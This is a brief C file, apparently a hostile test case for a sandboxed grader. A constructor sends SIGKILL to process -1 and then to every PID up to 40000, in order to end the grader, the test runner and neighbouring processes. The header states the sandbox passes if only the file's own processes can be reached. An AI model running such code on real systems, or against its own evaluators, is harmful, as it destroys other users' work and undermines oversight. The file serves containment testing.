/* kills-everybody - kill(-1), and then every pid there can be
 *
 * Tries: to end the grader, the test runner and the neighbour, then does as it was told
 * Holds: what it can see and signal is what it has started itself
 * Mark: 0-100
 * Goal: ! grep -q '^ok 5 ' tap
 * Honest: yes */
#include <signal.h>
#include <unistd.h>

static void __attribute__((constructor)) attack(void)
{
	kill(-1, SIGKILL);
	for (pid_t pid = 2; pid < 40000; pid++)
		if (pid != getpid())
			kill(pid, SIGKILL);
}
